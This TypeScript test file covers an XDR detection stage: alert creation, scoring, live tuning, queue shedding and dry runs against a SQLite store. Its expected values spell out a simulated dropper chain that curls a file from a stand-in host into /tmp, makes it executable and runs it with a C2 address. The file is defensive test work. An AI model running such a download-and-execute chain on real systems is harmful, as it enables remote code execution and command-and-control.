// The detection stage against a real SQLite store: OATs, one alert per attack updated by a
// later firing, highlights linked to events, score, tuning live, shedding, dry run.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CollectorMetrics } from '../metrics.js';
import { SqliteStore } from '../store/sqlite-store.js';
import { attackEvents, GOLDEN_RULES } from './alerts/test-attack.js';
import { DetectionStage } from './detection-stage.js';
import { dryRun } from './dry-run.js';

const T0 = 1_700_000_000_000;
let dir: string;
let store: SqliteStore;
let stage: DetectionStage;
let metrics: CollectorMetrics;

beforeEach(async () => {
  dir = mkdtempSync(join(tmpdir(), 'xdr-stage-'));
  store = SqliteStore.open(join(dir, 'xdr.db'));
  metrics = new CollectorMetrics();
  stage = new DetectionStage({ dirs: [GOLDEN_RULES], store, metrics, log: pino({ level: 'silent' }) });
  await stage.reloadTuning();
});
afterEach(async () => {
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

async function run(events: ReturnType<typeof attackEvents>) {
  stage.enqueue(events);
  await stage.idle();
}

describe('DetectionStage', () => {
  it('stores OATs and makes exactly one alert with highlights, scope and score', async () => {
    expect(stage.report.unsupported).toEqual([]);
    await run(attackEvents({ session: 200, t0: T0 }));
    const oats = await store.queryOats({ limit: 100 });
    expect(oats.oats.map((o) => o.ruleId).sort()).toEqual(['g-c2-from-tmp', 'g-chmod-tmp', 'g-download-tmp', 'g-exec-tmp']);
    const c2 = oats.oats.find((o) => o.ruleId === 'g-c2-from-tmp')!;
    expect(c2).toMatchObject({ level: 'high', techniques: ['T1571'], tactics: ['TA0011'], hostId: 'web1', processEntityId: 'web1:203:1', eventId: 'web1-200:4' });
    expect((await store.queryOats({ limit: 10, technique: 'T1222' })).oats.map((o) => o.ruleId)).toEqual(['g-chmod-tmp']);
    expect((await store.queryOats({ limit: 10, risk: ['high'] })).oats).toHaveLength(1);

    const { alerts } = await store.listAlerts({ limit: 10 });
    expect(alerts).toHaveLength(1);
    const a = alerts[0];
    expect(a).toMatchObject({ modelId: 'm-dropper-c2', status: 'new', firings: 1, level: 'critical', firstSeen: T0 + 1000, lastSeen: T0 + 4000 });
    expect(a.highlights.commands.map((c) => c.value)).toEqual(['curl -s -o /tmp/.x200 http://203.0.113.5/x', 'chmod +x /tmp/.x200', '/tmp/.x200 -c 203.0.113.5']);
    expect(a.highlights.commands[0].eventIds).toEqual(['web1-200:1']);
    expect(a.highlights.destinationIps).toEqual([{ value: '203.0.113.5', eventIds: ['web1-200:4'], count: 1 }]);
    expect(a.highlights.sourceIps.map((x) => x.value)).toEqual(['10.0.0.5']);
    expect(a.highlights.files.map((x) => x.value)).toEqual(['/tmp/.x200']);
    expect(a.scope.hosts).toEqual([{ id: 'web1', name: 'web1' }]);
    expect(a.scope.users).toEqual(['deploy']);
    expect(a.scope.ips.sort()).toEqual(['10.0.0.5', '203.0.113.5']);
    // score: base 85 (xdr.score) + OATs low 1 + low 1 + medium 2 + high 4 = 8 + breadth 2×(4 techniques−1)=6, factor 1.0
    expect(a.scoreParts).toEqual({ base: 85, oatPoints: 8, breadth: 6, criticality: 'medium', factor: 1 });
    expect(a.score).toBe(99);
    await expect(metrics.registry.getSingleMetricAsString('xdr_alerts_created_total')).resolves.toContain('xdr_alerts_created_total 1');
  });

  it('a later step of the same attack updates its alert; analyst fields stand; a closed alert is not reopened', async () => {
    await run(attackEvents({ session: 200, t0: T0 }));
    const [first] = (await store.listAlerts({ limit: 10 })).alerts;
    await store.updateAlert(first.id, { status: 'in_progress', assignee: 'alice', addNote: { at: T0, author: 'alice', text: 'looking' }, at: T0 });
    await run(attackEvents({ session: 300, t0: T0 + 60_000, c2: '198.51.100.9' }));
    const after = (await store.listAlerts({ limit: 10 })).alerts;
    expect(after).toHaveLength(1);
    expect(after[0]).toMatchObject({ id: first.id, firings: 2, status: 'in_progress', assignee: 'alice', firstSeen: T0 + 1000, lastSeen: T0 + 64_000 });
    expect(after[0].notes).toHaveLength(1);
    expect(after[0].highlights.destinationIps.map((x) => x.value)).toEqual(['203.0.113.5', '198.51.100.9']);
    expect(after[0].eventIds).toHaveLength(8);

    await store.updateAlert(first.id, { status: 'closed', resolution: 'true_positive', at: T0 });
    await run(attackEvents({ session: 400, t0: T0 + 120_000 }));
    const third = (await store.listAlerts({ limit: 10 })).alerts;
    expect(third).toHaveLength(2);
    expect(third.find((x) => x.id !== first.id)).toMatchObject({ status: 'new', firings: 1 });
  });

  it('disabling a filter and adding an exception apply without a restart', async () => {
    await store.setDetectionState({ ruleId: 'g-exec-tmp', enabled: false, updatedBy: 't', updatedAt: T0 });
    await stage.reloadTuning();
    await run(attackEvents({ session: 200, t0: T0 }));
    expect((await store.queryOats({ limit: 100 })).oats.map((o) => o.ruleId)).not.toContain('g-exec-tmp');
    expect((await store.listAlerts({ limit: 10 })).alerts).toHaveLength(0);

    await store.setDetectionState({ ruleId: 'g-exec-tmp', enabled: true, updatedBy: 't', updatedAt: T0 });
    await store.saveException({
      id: 'x1', ruleId: 'g-download-tmp', hosts: ['web1'], conditions: [{ field: 'process.command_line', op: 'contains', values: ['203.0.113.5'] }],
      comment: '', enabled: true, createdBy: 't', createdAt: T0, updatedAt: T0,
    });
    await stage.reloadTuning();
    await run(attackEvents({ session: 300, t0: T0 + 60_000 }));
    const ids = (await store.queryOats({ limit: 100, from: T0 + 60_000 })).oats.map((o) => o.ruleId);
    expect(ids).toContain('g-exec-tmp');
    expect(ids).not.toContain('g-download-tmp');
    expect((await store.listAlerts({ limit: 10 })).alerts).toHaveLength(0);
    expect(stage.stats().tuning.suppressed).toEqual({ x1: 1 });
  });

  it('asset criticality weighs the score and re-scores open alerts', async () => {
    await run(attackEvents({ session: 200, t0: T0 }));
    await store.setHostCriticality('web1', 'low', 'admin', T0);
    const changed = await stage.rescoreHost('web1');
    expect(changed).toHaveLength(1);
    expect(changed[0]).toMatchObject({ score: Math.round(99 * 0.8), scoreParts: { criticality: 'low', factor: 0.8 } });
    expect((await store.listAlerts({ limit: 1, minScore: 80 })).alerts).toHaveLength(0);
  });

  it('sheds what does not fit its bounded queue, and counts it', async () => {
    const small = new DetectionStage({ dirs: [GOLDEN_RULES], store, metrics, log: pino({ level: 'silent' }), maxQueue: 1000 });
    const many = Array.from({ length: 1500 }, (_, i) => attackEvents({ session: 1000 + i, t0: T0 })[0]);
    small.enqueue(many);
    await small.idle();
    expect(small.stats()).toMatchObject({ shed: 500, processed: 1000 });
    expect(await metrics.registry.getSingleMetricAsString('xdr_detection_shed_events_total')).toContain(' 500');
  });

  it('dry run: answers matches, OATs and the alert, stores nothing, rules sent win over loaded ones', () => {
    const r = dryRun({
      loaded: stage.sources, events: attackEvents({ session: 200, t0: T0 }),
      rules: [{ file: 'mine.yml', text: 'title: mine\nid: g-exec-tmp\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|startswith: /nowhere/\n  condition: s\nlevel: low\n' }],
    });
    expect(r.matches.map((m) => m.id)).not.toContain('m-dropper-c2');
    const plain = dryRun({ loaded: stage.sources, events: attackEvents({ session: 200, t0: T0 }) });
    expect(plain.alerts).toHaveLength(1);
    expect(plain.alerts[0]).toMatchObject({ modelId: 'm-dropper-c2', score: 99 });
    expect(plain.oats).toHaveLength(4);
    expect(plain.firings.map((f) => f.id)).toEqual(['r-dropper', 'r-c2', 'm-dropper-c2']);
  });
});
